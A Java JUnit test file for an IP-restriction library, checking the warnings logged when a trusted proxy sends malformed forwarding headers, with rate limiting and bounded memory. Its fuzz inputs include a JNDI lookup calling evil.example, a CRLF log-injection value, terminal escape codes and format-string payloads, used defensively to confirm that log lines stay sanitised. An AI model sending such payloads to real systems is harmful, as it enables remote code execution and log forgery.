package org.iprestriction.caller;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import java.util.logging.Level;
import java.util.stream.Stream;
import org.iprestriction.LogLines;
import org.iprestriction.Vectors;
import org.iprestriction.address.IpRange;
import org.iprestriction.address.Notation;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/** What the log says of a trusted proxy whose header names nobody: what was wrong, once an hour. */
class HeaderFaultTest {

    private static final List<IpRange> PROXIES = List.of(Notation.parse("10.0.0.0/8").range());
    private static final String BEGIN = "A request from the trusted proxy 10.0.0.1 does not identify its caller and counts as unidentified. ";

    private final AtomicLong nanos = new AtomicLong();
    private final LogLines log = new LogLines(HeaderFaultLog.class);

    @AfterEach
    void closeLog() {
        log.close();
    }

    private void whenProxySends(String proxy, String header, String ports, String... lines) {
        ClientAddressResolver resolver = ClientAddressResolver.of(PROXIES, header, ports, nanos::get);
        assertThat(resolver.resolve(StubRequest.from(proxy).header(header, lines).build())).isNull();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', nullValues = "-", quoteCharacter = '~', value = {
        "X-Forwarded-For|-|X-Forwarded-For is missing. Configure the proxy to set it, or remove the address from trusted-proxies if it is not a proxy.",
        "X-Forwarded-For|~~|X-Forwarded-For has an empty element where the caller's address is expected. The proxy may append a variable that has no value.",
        "X-Forwarded-For|203.0.113.7, |X-Forwarded-For has an empty element where the caller's address is expected. The proxy may append a variable that has no value.",
        "X-Forwarded-For|203.0.113.7, unknown|X-Forwarded-For has \"unknown\" where the caller's address is expected, which is not an address.",
        "X-Forwarded-For|203.0.113.7, a b\u001b[2J|X-Forwarded-For has \"a\\u0020b\\u001B[2J\" where the caller's address is expected, which is not an address.",
        "Forwarded|for=2001:db8::1|Forwarded has \"for=2001:db8::1\" where the caller's address is expected, which does not follow RFC 7239. Write for=\"[2001:db8::1]\", with brackets and quotes.",
        "Forwarded|for=[2001:DB8:0::1]:443;proto=https|Forwarded has \"for=[2001:DB8:0::1]:443;proto=https\" where the caller's address is expected, which does not follow RFC 7239. Write for=\"[2001:db8::1]\", with brackets and quotes.",
        "Forwarded|proto=https; For=2001:db8::1 |Forwarded has \"proto=https;\\u0020For=2001:db8::1\" where the caller's address is expected, which does not follow RFC 7239. Write for=\"[2001:db8::1]\", with brackets and quotes.",
        "Forwarded|for=\"2001:db8::1\"|Forwarded has \"2001:db8::1\" where the caller's address is expected, which is not an address. Write for=\"[2001:db8::1]\", with brackets and quotes.",
        "Forwarded|for=\"[2001:db8::1]:0\"|Forwarded has \"[2001:db8::1]:0\" where the caller's address is expected, which is not an address.",
        "Forwarded|for=_hidden|Forwarded has \"_hidden\" where the caller's address is expected, which is not an address.",
        "Forwarded|proto=https|Forwarded has \"proto=https\" where the caller's address is expected, which has no for=.",
        "Forwarded|for=\"203.0.113.7|Forwarded has a quote that is never closed.",
        "Forwarded|for=203.0.113.7 proto=https|Forwarded has \"for=203.0.113.7\\u0020proto=https\" where the caller's address is expected, which does not follow RFC 7239.",
        "X-Real-IP|203.0.113.7, 10.0.0.1|X-Real-IP has \"203.0.113.7,\\u002010.0.0.1\" where the caller's address is expected, which is not an address.",
        "X-Real-IP|203.0.113.7:80|X-Real-IP has \"203.0.113.7:80\" where an address without a port is expected. If the proxy always writes a port, set client-header-ports to always.",
        "X-Real-IP|~ ~|X-Real-IP has an empty element where the caller's address is expected. The proxy may append a variable that has no value.",
        "CloudFront-Viewer-Address|203.0.113.7|CloudFront-Viewer-Address has \"203.0.113.7\" where an address with a port is expected.",
    })
    void theLineSaysWhatIsWrongAndWhatToWrite(String header, String line, String sentence) {
        whenProxySends("10.0.0.1", header, null, line == null ? new String[0] : new String[] {line});
        assertThat(log.messages(Level.WARNING)).containsExactly(BEGIN + sentence);
    }

    @Test
    void severalLinesTooManyHopsAndTextsWithTwoReadingsAreSaidToo() {
        whenProxySends("10.0.0.1", "X-Real-IP", null, "203.0.113.7", "203.0.113.7");
        whenProxySends("10.0.0.1", "X-Forwarded-For", null, "10.0.0.2, ".repeat(32) + "10.0.0.2");
        whenProxySends("10.0.0.1", "Client-IP", "optional", "2001:db8::7:80");
        assertThat(log.messages()).containsExactly(BEGIN + "X-Real-IP is sent more than once, but must contain one address.",
                BEGIN + "X-Forwarded-For has more than 32 trusted hops.", BEGIN + "Client-IP has \"2001:db8::7:80\" where the caller's"
                        + " address is expected, which can be read with or without a port.");
    }

    @Test
    void itIsSaidOnceAnHourForEachProxy() {
        ClientAddressResolver resolver = ClientAddressResolver.of(PROXIES, "X-Forwarded-For", null, nanos::get);
        for (int minute = 0; minute < 120; minute++) {
            for (String proxy : List.of("10.0.0.1", "10.0.0.2")) {
                assertThat(resolver.resolve(StubRequest.from(proxy).header("X-Forwarded-For", "garbage").build())).isNull();
            }
            nanos.addAndGet(Duration.ofMinutes(1).toNanos());
        }
        assertThat(log.messages()).hasSize(4).filteredOn(line -> line.contains("10.0.0.2")).hasSize(2);
    }

    @Test
    void howeverManyAddressesAreTrustedTheLogAndTheMemoryStayBounded() {
        ClientAddressResolver resolver = ClientAddressResolver.of(PROXIES, "X-Forwarded-For", null, nanos::get);
        for (int hour = 1; hour <= 2; hour++) {
            for (int i = 0; i < 5_000; i++) {
                resolver.resolve(StubRequest.from("10.1." + i / 250 + "." + i % 250).header("X-Forwarded-For", "garbage").build());
            }
            assertThat(log.messages()).hasSize(hour * HeaderFaultLog.MOST_PROXIES);
            nanos.addAndGet(Duration.ofHours(1).toNanos());
        }
    }

    static Stream<String> values() {
        return Stream.concat(Vectors.rows("forwarded.csv").map(row -> row.get(3)), Stream.of(
                "${jndi:ldap://evil.example/a}", "203.0.113.7\r\nINFO: Refused nobody", "\u001b[2J\u001b]0;owned\u0007", "%n%s%x{}",
                "{0}{1}", "\u2028\u2029\u0085\u202E\uFEFF", "a".repeat(65_536), "\uD800", "\0", "for=" + "\u3000".repeat(200)));
    }

    @ParameterizedTest
    @MethodSource("values")
    void aLineIsPrintableAsciiOfBoundedLengthWhateverTheHeaderHolds(String value) {
        for (String header : List.of("X-Forwarded-For", "Forwarded", "X-Real-IP", "CloudFront-Viewer-Address")) {
            ClientAddressResolver.of(PROXIES, header, null, nanos::get)
                    .resolve(StubRequest.from("10.0.0.1").header(header, value.split(" \\|\\| ", -1)).build());
        }
        assertThat(log.messages()).hasSizeLessThanOrEqualTo(4)
                .allSatisfy(line -> assertThat(line).matches("[ -~]{1,900}").doesNotContain("${"));
    }

    @Test
    void aHeaderThatNamesACallerLeavesNoLine() {
        ClientAddressResolver resolver = ClientAddressResolver.of(PROXIES, "X-Forwarded-For", null, nanos::get);
        assertThat(resolver.resolve(StubRequest.from("10.0.0.1").header("X-Forwarded-For", "203.0.113.7").build())).isNotNull();
        assertThat(resolver.resolve(StubRequest.from("203.0.113.8").header("X-Forwarded-For", "garbage").build())).isNotNull();
        assertThat(log.messages()).isEmpty();
    }
}
